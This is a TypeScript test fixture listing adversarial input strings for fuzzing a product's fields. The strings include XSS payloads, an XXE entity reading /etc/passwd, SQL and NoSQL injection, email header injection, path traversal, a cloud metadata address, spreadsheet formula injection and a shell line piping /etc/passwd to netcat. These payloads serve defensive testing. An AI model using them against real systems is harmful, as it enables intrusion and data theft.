/** Texts that have broken other programs, by what they try. */
export const nastyTexts: Readonly<Record<string, string>> = {
  'a script': '<script>globalThis.broken=1</script>',
  'an image with a handler': '"><img src=x onerror=globalThis.broken=1>',
  'a handler in single quotes': "' autofocus onfocus='globalThis.broken=1",
  'an SVG': '<svg/onload=globalThis.broken=1>',
  'the end of a style': '</style></title></textarea></script><b>',
  'a scheme that is code': 'javascript:globalThis.broken=1',
  'entities and a comment': '&lt;b&gt;&amp;amp;&#0;<!-- -->',
  'a CDATA section and an XML entity':
    '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><![CDATA[&e;]]>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a template of somebody else's
  'templates of many kinds': '{{7*7}}${7*7}<%= 7*7 %>#{7*7}[[${7*7}]]{%print 7*7%}',
  'replacements of a pattern': "$& $1 $` $' $$ \\1 %s %n %x",
  SQL: "' OR '1'='1'; DROP TABLE invoices; --",
  'an operator of NoSQL': '{"$gt":"","$where":"sleep(1000)"}',
  'an expression of DynamoDB': 'attribute_exists(pk) OR :a = #b',
  'keys of the table': 'A#acc#INV#1|2~3',
  'a shell': '; cat /etc/passwd | nc x 1 & $(id) `id`',
  'a header of an e-mail': 'Ada\r\nBcc: mallory@example.com\r\n\r\nHello',
  'a line feed alone': 'Ada\nBcc: mallory@example.com',
  'line ends beyond ASCII': 'Ada\u2028Bcc: mallory@example.com\u0085Cc: mallory@example.com',
  'a second recipient': 'Ada <ada@example.com>, mallory@example.com',
  'an encoded word': '=?utf-8?Q?Ada=0D=0ABcc:_mallory@example.com?=',
  'an override of direction': 'invoice\u202Efdp.exe\u202C\u2066\u2069',
  'characters without width': 'A\u200Bd\u200Ca\u200D\uFEFF\u2060\u00AD',
  NUL: 'A\u0000da',
  'a control sequence of a terminal': 'A\u001B[2J\u0007da',
  'half of a surrogate pair': 'A\uD800da',
  'the other half': 'A\uDC00da',
  'no character': 'A\uFFFE\uFFFFda\uFFFD',
  'emoji of many parts': '👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇫🇷',
  'marks on marks': `Z${'\u0300\u0301\u0302\u0489'.repeat(20)}`,
  'writing of both directions': 'שלום Ada مرحبا ١٢٣ नमस्ते',
  'a letter in two ways': 'e\u0301 é ﬁ Å Å İ ı ß ẞ',
  'characters beyond the first plane': '𝒜𝓭𝓪 𠜎 𐍈',
  'a path upwards': '../../../../etc/passwd\\..\\..\\x%2e%2e%2f',
  'an address of the inside': 'http://169.254.169.254/latest/meta-data/',
  'a name of every object': '__proto__',
  'another name of every object': 'constructor',
  'a formula': "=cmd|' /C calc'!A0",
  'a formula with plus': '+1+1',
  'a formula with minus': '-2+3',
  'a formula with at': '@SUM(1+9)',
  'a formula after a tab': '\t=1+1',
  'a formula in full width': '＝1+1',
  'separators of a CSV': '",";"\t|\'",\\"',
  'a very long number': '9'.repeat(400),
  'an exponent': '1e400',
  'no number': 'NaN',
  'digits that are not ASCII': '１２٣४',
  'an empty text': '',
  'spaces alone': '   ',
  'spaces around': '  Ada\u00A0\u3000 ',
  'words of other languages': 'undefined null true None nil',
  'a date that is none': '2026-02-30',
  'a text of 200': 'x'.repeat(200),
  'one of 201': 'x'.repeat(201),
  'a text of 5,000': 'é'.repeat(5_000),
  'one of 5,001': 'é'.repeat(5_001),
};

/** Whether everything is tried with everything, one at a time: it takes many minutes. */
export const wholeProduct = process.env.QUITTANCE_TESTS === 'all';

const offset = Math.floor(Math.random() * 60);
/** All of them where the whole product is asked for; else every so-manieth, other ones at each run. */
export const someNastyTexts = (every: number): [string, string][] =>
  Object.entries(nastyTexts).filter((_, index) => wholeProduct || (index + offset) % every === 0);
